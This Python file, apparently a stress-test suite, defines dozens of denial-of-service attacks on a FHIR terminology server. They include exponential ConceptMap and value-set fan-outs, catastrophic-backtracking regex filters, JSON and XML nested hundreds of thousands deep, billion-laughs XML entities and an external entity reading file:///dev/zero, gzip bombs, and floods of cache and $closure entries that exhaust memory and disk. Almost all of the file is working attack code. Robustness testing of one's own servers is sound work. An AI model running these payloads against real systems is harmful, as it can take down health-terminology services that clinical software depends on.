"""Attacks by requests that are whole, but cost much to read, to answer or to keep."""

from __future__ import annotations

import gzip
import json
from collections.abc import Sequence
from contextlib import closing
from itertools import count
from urllib.parse import urlencode

from attacker import (
    EXPAND,
    FORM,
    JSON,
    LARGEST_BODY,
    LOOKUP,
    MEGABYTE,
    SYSTEM,
    TRANSLATE,
    VALIDATE,
    XML,
    Attacker,
    Resource,
    attack,
    code_system,
    codes,
    dumps,
    parameters,
    value_set,
    xml,
)

# -- maps and value sets that lead to one another -----------------------------------------------


def _map(url: str, further: Sequence[str]) -> Resource:
    groups = [
        {
            "source": SYSTEM,
            "target": f"http://example.org/target/{n}",
            "element": [{"code": "other", "target": [{"code": "x", "relationship": "equivalent"}]}],
            "unmapped": {"mode": "other-map", "otherMap": other},
        }
        for n, other in enumerate(further)
    ]
    return {"resourceType": "ConceptMap", "url": url, "status": "active", "group": groups}


def _map_levels(levels: int, width: int) -> list[Resource]:
    """Maps in levels: each one leads to all maps of the next level."""

    def urls(level: int) -> list[str]:
        return [f"http://example.org/map/{level}/{n}" for n in range(width if level else 1)]

    return [_map(url, urls(level + 1)) for level in range(levels) for url in urls(level)]


def _translate(maps: list[Resource]) -> bytes:
    return parameters(maps, url__Uri=maps[0]["url"], sourceCode__Code="c", system__Uri=SYSTEM)


@attack
def other_map_fans(attacker: Attacker) -> None:
    """Ask four at once for a code in maps that lead to three further maps each, in 14 levels: 3^14 ways."""
    body = _translate(_map_levels(14, 3))
    attacker.repeat(4, lambda: attacker.post(TRANSLATE, body))


@attack
def other_map_fan_in_conceptMap(attacker: Attacker) -> None:
    """The same, with the first map as the parameter conceptMap and all codes of a CodeableConcept."""
    first, *others = _map_levels(14, 3)
    nodes: list[Resource] = [{"name": "conceptMap", "resource": first}]
    nodes += [{"name": "tx-resource", "resource": other} for other in others]
    codings = [{"system": SYSTEM, "code": f"c{n}"} for n in range(500)]
    nodes.append({"name": "sourceCodeableConcept", "valueCodeableConcept": {"coding": codings}})
    body = dumps({"resourceType": "Parameters", "parameter": nodes})
    attacker.repeat(4, lambda: attacker.post(TRANSLATE, body))


@attack
def other_map_chains(attacker: Attacker) -> None:
    """Ask four at once for a code in a chain of 800 maps."""
    body = _translate(_map_levels(800, 1))
    attacker.repeat(4, lambda: attacker.post(TRANSLATE, body))


def _import_fan() -> list[Resource]:
    sets = []
    for level in range(14):
        further = [f"http://example.org/set/{level + 1}/{n}" for n in range(3)]
        includes = [{"valueSet": [url]} for url in further] if level < 13 else [{"system": SYSTEM}]
        sets += [value_set(*includes, url=f"http://example.org/set/{level}/{n}") for n in range(3)]
    return [code_system(codes(2_000)), *sets]


@attack
def import_fans(attacker: Attacker) -> None:
    """Expand value sets that import three others each, in 14 levels."""
    body = parameters(_import_fan(), url__Uri="http://example.org/set/0/0")
    attacker.repeat(4, lambda: attacker.post(EXPAND, body))


@attack
def import_fans_validated(attacker: Attacker) -> None:
    """Validate a code against the same value sets."""
    body = parameters(
        _import_fan(), url__Uri="http://example.org/set/0/0", code__Code="none", system__Uri=SYSTEM
    )
    attacker.repeat(4, lambda: attacker.post(VALIDATE, body))


def _is_a(concepts: list[Resource], filters: int, includes: int) -> bytes:
    last = concepts[-1]["code"]
    by_filter = [
        {"property": "concept", "op": "is-a", "value": concepts[n % 7]["code"]} for n in range(filters)
    ]
    by_filter[-1] = {"property": "concept", "op": "descendent-of", "value": last}
    include = {"system": SYSTEM, "filter": by_filter}
    return parameters(
        [code_system(concepts, property=[{"code": "parent", "type": "code"}])]
        + [value_set(*[include] * includes)],
        url__Uri="http://example.org/set",
    )


def _below(code: str, parent: str) -> Resource:
    return {"code": code, "property": [{"code": "parent", "valueCode": parent}]}


@attack
def is_a_over_a_wide_hierarchy(attacker: Attacker) -> None:
    """Expand 20 includes of 200 is-a filters over 10,000 concepts below one."""
    body = _is_a([{"code": "top"}, *(_below(f"c{n}", "top") for n in range(10_000))], 200, 20)
    attacker.repeat(4, lambda: attacker.post(EXPAND, body))


@attack
def is_a_over_a_deep_hierarchy(attacker: Attacker) -> None:
    """Expand 20 includes of 200 is-a filters over 10,000 concepts, each below the one before."""
    body = _is_a([{"code": "c0"}, *(_below(f"c{n}", f"c{n - 1}") for n in range(1, 10_000))], 200, 20)
    attacker.repeat(4, lambda: attacker.post(EXPAND, body))


@attack
def thousands_of_excludes(attacker: Attacker) -> None:
    """Expand one include of 20,000 codes less 2,000 excludes with a filter each."""
    filter_ = {"property": "code", "op": "regex", "value": ".*7.*1"}
    set_ = value_set({"system": SYSTEM})
    set_["compose"]["exclude"] = [{"system": SYSTEM, "filter": [filter_]}] * 2_000
    body = parameters([code_system(codes(20_000)), set_], url__Uri="http://example.org/set")
    attacker.repeat(4, lambda: attacker.post(EXPAND, body))


# -- much work for one request ------------------------------------------------------------------


@attack
def regexes_over_long_codes(attacker: Attacker) -> None:
    """Filter 400 codes of 20,000 characters by (.*a){1,900}."""
    concepts = [{"code": f"{n}" + "ab" * 10_000} for n in range(400)]
    include = {"system": SYSTEM, "filter": [{"property": "code", "op": "regex", "value": "(.*a){1,900}b"}]}
    body = parameters([code_system(concepts), value_set(include)], url__Uri="http://example.org/set")
    attacker.repeat(4, lambda: attacker.post(EXPAND, body))


@attack
def many_regexes(attacker: Attacker) -> None:
    """Filter by 4,000 different expressions of 900 repeats each."""
    filters = [{"property": "code", "op": "regex", "value": f"(.*a{n}){{1,900}}"} for n in range(200)]
    includes = [{"system": SYSTEM, "filter": filters}] * 20
    body = parameters([code_system(codes(500)), value_set(*includes)], url__Uri="http://example.org/set")
    attacker.repeat(4, lambda: attacker.post(EXPAND, body))


@attack
def filters_over_many_codes(attacker: Attacker) -> None:
    """Filter 100,000 codes by 19 expressions, of which only the last one fits nothing."""
    filters = [{"property": "code", "op": "regex", "value": f".*[0-9]{{1,{n}}}"} for n in range(2, 20)]
    filters.append({"property": "code", "op": "regex", "value": "none"})
    include = {"system": SYSTEM, "filter": filters}
    body = parameters([code_system(codes(100_000)), value_set(include)], url__Uri="http://example.org/set")
    attacker.repeat(4, lambda: attacker.post(EXPAND, body))


@attack
def filter_of_a_million_words(attacker: Attacker) -> None:
    """Search a value set for a text of a million words."""
    words = " ".join(f"w{n}" for n in range(1_000_000))
    body = parameters(url__Uri="http://hl7.org/fhir/ValueSet/country", filter=words)
    attacker.repeat(4, lambda: attacker.post(EXPAND, body))


@attack
def twenty_thousand_designations(attacker: Attacker) -> None:
    """Expand with 20,000 parameters 'designation'."""
    nodes: list[Resource] = [{"name": "designation", "valueString": f"urn:x|{n}"} for n in range(20_000)]
    nodes.append({"name": "url", "valueUri": "http://hl7.org/fhir/ValueSet/country"})
    nodes.append({"name": "includeDesignations", "valueBoolean": True})
    body = dumps({"resourceType": "Parameters", "parameter": nodes})
    attacker.repeat(4, lambda: attacker.post(EXPAND, body))


@attack
def designations_in_the_url(attacker: Attacker) -> None:
    """The same in a URL of 60,000 characters, with as many as fit."""
    query = "&designation=a" * 4_200
    path = f"{EXPAND}?url=http://hl7.org/fhir/ValueSet/country&includeDesignations=true{query}"
    attacker.repeat(4, lambda: attacker.get(path))


@attack
def costly_batches(attacker: Attacker) -> None:
    """Send batches of 500 entries that expand, search and translate."""
    requests = [
        "ValueSet/$expand?url=http://hl7.org/fhir/ValueSet/ucum-common",
        "ValueSet?_count=10000",
        "CodeSystem?_count=10000&_summary=false",
        "ConceptMap/$translate?code=x&system=http://hl7.org/fhir/administrative-gender",
        "ValueSet/$expand?url=http://hl7.org/fhir/ValueSet/country&filter=xxqz+yyqz",
    ] * 100
    entries = [{"request": {"method": "GET", "url": url}} for url in requests]
    body = dumps({"resourceType": "Bundle", "type": "batch", "entry": entries})
    attacker.repeat(4, lambda: attacker.post("/fhir/r5", body))


@attack
def batches_of_inline_value_sets(attacker: Attacker) -> None:
    """Send batches of 300 entries that each expand a value set of their own with 1,000 codes."""
    resources = [code_system(codes(1_000)), value_set({"system": SYSTEM})]
    one = json.loads(parameters(resources, url__Uri="http://example.org/set"))
    entries = [{"request": {"method": "POST", "url": "ValueSet/$expand"}, "resource": one}] * 300
    body = dumps({"resourceType": "Bundle", "type": "batch", "entry": entries})
    attacker.repeat(4, lambda: attacker.post("/fhir/r5", body))


@attack
def thousands_of_validations(attacker: Attacker) -> None:
    """Validate 5,000 codes in one $batch-validate-code."""
    one = json.loads(
        parameters(
            url__Uri="http://hl7.org/fhir/ValueSet/ucum-common",
            code__Code="xx",
            system__Uri="http://unitsofmeasure.org",
        )
    )
    nodes = [{"name": "validation", "resource": one}] * 5_000
    body = dumps({"resourceType": "Parameters", "parameter": nodes})
    attacker.repeat(4, lambda: attacker.post("/fhir/r5/ValueSet/$batch-validate-code", body))


@attack
def expansions_without_end(attacker: Attacker) -> None:
    """Expand the largest bundled value sets with a huge count and without one."""
    urls = [
        f"{EXPAND}?url=http://hl7.org/fhir/ValueSet/{name}&includeDesignations=true{more}"
        for name in (
            "ucum-common",
            "ucum-units",
            "country",
            "all-languages",
            "mimetypes",
            "all-resource-types",
        )
        for more in ("", "&count=1000000000000", "&count=50000&filter=e", "&property=*")
    ]
    turns = count()
    attacker.repeat(8, lambda: attacker.get(urls[next(turns) % len(urls)]))


@attack
def searches_without_end(attacker: Attacker) -> None:
    """Search with a huge _count, long values, and parameters that a terminology server does not have."""
    urls = [
        f"/fhir/r5/{kind}?_count=1000000000{more}"
        for kind in ("CodeSystem", "ValueSet", "ConceptMap")
        for more in (
            "",
            "&_include=*&_revinclude=*:*",
            "&name:contains=a",
            "&url=" + "a," * 9_000,
        )
    ]
    turns = count()
    attacker.repeat(8, lambda: attacker.get(urls[next(turns) % len(urls)]))


@attack
def find_matches_of_nothing(attacker: Attacker) -> None:
    """Send $find-matches with 20 properties over 20,000 codes."""
    parts = [{"name": "code", "valueCode": "p"}, {"name": "value", "valueString": "x"}]
    nodes: list[Resource] = [{"name": "property", "part": parts}] * 20
    system = code_system(codes(20_000), property=[{"code": "p", "type": "string"}])
    nodes += [{"name": "tx-resource", "resource": system}]
    nodes += [{"name": "system", "valueUri": SYSTEM}, {"name": "exact", "valueBoolean": False}]
    body = dumps({"resourceType": "Parameters", "parameter": nodes})
    attacker.repeat(4, lambda: attacker.post("/fhir/r5/CodeSystem/$find-matches", body))


@attack
def nested_units(attacker: Attacker) -> None:
    """Look up UCUM codes of thousands of brackets, and units of thousands of factors."""
    units = [
        "(" * 15_000,
        "(" * 5_000 + "m" + ")" * 5_000,
        "m." * 7_000 + "m",
        "m" + "/s" * 7_000,
        "{" * 15_000,
    ]
    urls = [
        f"/fhir/r5/CodeSystem/$lookup?{urlencode({'system': 'http://unitsofmeasure.org', 'code': unit})}"
        for unit in units
    ]
    turns = count()
    attacker.repeat(4, lambda: attacker.get(urls[next(turns) % len(urls)]))


@attack
def nested_expression_constraints(attacker: Attacker) -> None:
    """Expand implicit value sets of SNOMED CT with expressions of thousands of brackets."""
    constraints = [
        "(" * 10_000 + "*",
        "<" * 10_000,
        "* : " + "{*=*}," * 1_500,
        "*:(*=(" * 3_000,
        " OR ".join(["<<138875005"] * 1_500),
    ]
    urls = [
        f"{EXPAND}?{urlencode({'url': 'http://snomed.info/sct?fhir_vs=ecl/' + text})}" for text in constraints
    ]
    turns = count()
    attacker.repeat(4, lambda: attacker.get(urls[next(turns) % len(urls)]))


# -- bodies that are hard to read ---------------------------------------------------------------


@attack
def duplicate_keys(attacker: Attacker) -> None:
    """Post an object of 40,000 keys of which the last comes twice."""
    members = ",".join(f'"k{n}":1' for n in [*range(40_000), 39_999])
    body = f'{{"resourceType":"Parameters",{members}}}'.encode()
    attacker.repeat(4, lambda: attacker.post(EXPAND, body))


@attack
def deep_json(attacker: Attacker) -> None:
    """Post objects nested 100,000 deep."""
    body = b'{"a":' * 100_000 + b"1" + b"}" * 100_000
    attacker.repeat(4, lambda: attacker.post(EXPAND, body))


@attack
def open_brackets(attacker: Attacker) -> None:
    """Post five million opening brackets."""
    body = b"[" * 5 * MEGABYTE
    attacker.repeat(4, lambda: attacker.post(EXPAND, body))


@attack
def millions_of_small_values(attacker: Attacker) -> None:
    """Post as many empty objects, and numbers of a million digits, as a body may have."""
    bodies = [
        b"[" + b"{}," * (LARGEST_BODY // 3) + b"1]",
        b"[" + b"1" * MEGABYTE + b"]",
        b"[1e" + b"9" * MEGABYTE + b"]",
    ]
    turns = count()
    attacker.repeat(4, lambda: attacker.post(EXPAND, bodies[next(turns) % len(bodies)]))


@attack
def xml_of_small_elements(attacker: Attacker) -> None:
    """Post as many small elements of XML as a body may have."""
    content = (
        "<parameter/>" * (LARGEST_BODY // 12),
        '<parameter><name value="a"/></parameter>' * (LARGEST_BODY // 40),
    )
    bodies = [xml(parts).encode() for parts in content]
    turns = count()
    attacker.repeat(4, lambda: attacker.post(EXPAND, bodies[next(turns) % 2], XML))


@attack
def forms_of_millions_of_fields(attacker: Attacker) -> None:
    """Post as many fields of a form, and as many percent signs, as a body may have."""
    bodies = [
        b"a=&" * (LARGEST_BODY // 3),
        b"code=a&" * (LARGEST_BODY // 7),
        b"url=" + b"%41" * (LARGEST_BODY // 3),
    ]
    turns = count()
    attacker.repeat(4, lambda: attacker.post(EXPAND, bodies[next(turns) % 3], FORM))


@attack
def xml_entities(attacker: Attacker) -> None:
    """Post XML whose entities multiply, and one that names a file."""
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    multiplied = xml('<id value="&e11;"/>')
    bombs = [
        f'<!DOCTYPE x [<!ENTITY e0 "lol">{entities}]>{multiplied}',
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///dev/zero">]>{xml("&e;")}',
        f'<!DOCTYPE x [<!ENTITY e "{"x" * 100_000}">]>{xml("&e;" * 100_000)}',
    ]
    turns = count()
    attacker.repeat(4, lambda: attacker.post(EXPAND, bombs[next(turns) % len(bombs)].encode(), XML))


@attack
def deep_xml(attacker: Attacker) -> None:
    """Post XML nested 300,000 deep."""
    body = b'<Parameters xmlns="http://hl7.org/fhir">' + b"<parameter><part>" * 300_000
    attacker.repeat(4, lambda: attacker.post(EXPAND, body, XML))


@attack
def a_hundred_thousand_attributes(attacker: Attacker) -> None:
    """Post an element of 100,000 attributes, and one of 100,000 namespaces."""
    lists = (" ".join(f'{name}{n}="1"' for n in range(100_000)) for name in ("a", "xmlns:a"))
    bodies = [xml(f"<parameter {attributes}/>") for attributes in lists]
    turns = count()
    attacker.repeat(4, lambda: attacker.post(EXPAND, bodies[next(turns) % 2].encode(), XML))


@attack
def gzip_bombs(attacker: Attacker) -> None:
    """Post a gigabyte of zeros, compressed twice over to a few kilobytes, and once to a megabyte."""
    once = gzip.compress(gzip.compress(b"[" * MEGABYTE) * 100)
    bodies = [once, gzip.compress(b"0" * 50 * MEGABYTE)]
    turns = count()
    headers = {"Content-Encoding": "gzip"}
    attacker.repeat(4, lambda: attacker.post(EXPAND, bodies[next(turns) % 2], JSON, **headers))


# -- memory and disk that is not given back -----------------------------------------------------


@attack
def codes_of_megabytes(attacker: Attacker) -> None:
    """Ask 60 times for codes, systems and displays of four megabytes, each time others."""
    turns = iter(range(60))
    long = "x" * 4 * MEGABYTE

    def play() -> None:
        turn = next(turns, None)
        if turn is None:
            attacker.pause(60)
            return
        values: dict[str, object] = {"url__Uri": "http://hl7.org/fhir/ValueSet/country"}
        values |= {"code__Code": "DE", "system__Uri": "urn:iso:std:iso:3166", "display": "Germany"}
        name = ("code__Code", "system__Uri", "display", "url__Uri")[turn % 4]
        attacker.post(VALIDATE, parameters((), **{**values, name: f"{turn}{long}"}))

    attacker.repeat(4, play)


@attack
def distinct_lookups(attacker: Attacker) -> None:
    """Ask 20,000 different questions, each as long as a URL may be every tenth time."""
    turns = iter(range(20_000))

    def play() -> None:
        with closing(attacker.kept()) as connection:
            for turn in turns:
                if not attacker.seconds_left:
                    return
                more = f"{turn}" + "x" * (8_000 if turn % 10 == 0 else 10)
                path = (
                    f"{LOOKUP}male&property={more}",
                    f"{EXPAND}?url=http://hl7.org/fhir/ValueSet/country&filter={more}",
                    f"{LOOKUP}male&displayLanguage=x-{more[:12]}",
                    f"{VALIDATE}?url=http://example.org/{more}&code=a&system=http://example.org",
                )[turn % 4]
                attacker.ask_on(connection, "GET", path)
        attacker.pause(60)

    attacker.repeat(4, play)


@attack
def caches_of_many_callers(attacker: Attacker) -> None:
    """Begin 5,000 caches of 100 concepts each, with another Authorization and cache-id each time."""
    turns = iter(range(5_000))
    resources = [code_system(codes(100)), value_set({"system": SYSTEM})]

    def play() -> None:
        with closing(attacker.kept()) as connection:
            for turn in turns:
                if not attacker.seconds_left:
                    return
                headers = {"Authorization": f"Bearer {turn}", "Content-Type": JSON}
                if turn % 2:
                    body = parameters(resources, mode__Code="start")
                    attacker.ask_on(connection, "POST", "/fhir/r5/$cache-control", body=body, headers=headers)
                else:
                    values: dict[str, object] = {"cache-id__Id": f"cache-{turn:020}"}
                    body = parameters(resources, url__Uri="http://example.org/set", **values)
                    attacker.ask_on(connection, "POST", EXPAND, body=body, headers=headers)
        attacker.pause(60)

    attacker.repeat(4, play)


@attack
def caches_of_megabytes(attacker: Attacker) -> None:
    """Put nine megabytes into caches, with another Authorization each time."""
    turns = count()
    body = parameters([code_system(codes(4_000, 2_000))], mode__Code="start")
    attacker.repeat(
        2, lambda: attacker.post("/fhir/r5/$cache-control", body, Authorization=f"Bearer {next(turns)}")
    )


@attack
def thousands_of_closure_concepts(attacker: Attacker) -> None:
    """Give tables of $closure 5,000 concepts each."""
    turns = count()

    def play() -> None:
        name = f"closure-{next(turns)}"
        attacker.post("/fhir/r5/$closure", parameters(name=name))
        system = "urn:ietf:bcp:13"  # has every code that is a media type
        for first in range(0, 5_000, 100):
            nodes: list[Resource] = [{"name": "name", "valueString": name}]
            nodes += [
                {"name": "concept", "valueCoding": {"system": system, "code": f"text/{n}" + "x" * 60}}
                for n in range(first, first + 100)
            ]
            attacker.post("/fhir/r5/$closure", dumps({"resourceType": "Parameters", "parameter": nodes}))

    attacker.repeat(4, play)


@attack
def a_thousand_closure_tables(attacker: Attacker) -> None:
    """Begin 1,000 tables of $closure with names of 255 characters."""
    names = iter([f"{n:0255}" for n in range(1_000)])

    def play() -> None:
        with closing(attacker.kept()) as connection:
            for name in names:
                if not attacker.seconds_left:
                    return
                attacker.ask_on(
                    connection,
                    "POST",
                    "/fhir/r5/$closure",
                    body=parameters(name=name),
                    headers={"Content-Type": JSON},
                )
        attacker.pause(60)

    attacker.repeat(4, play)
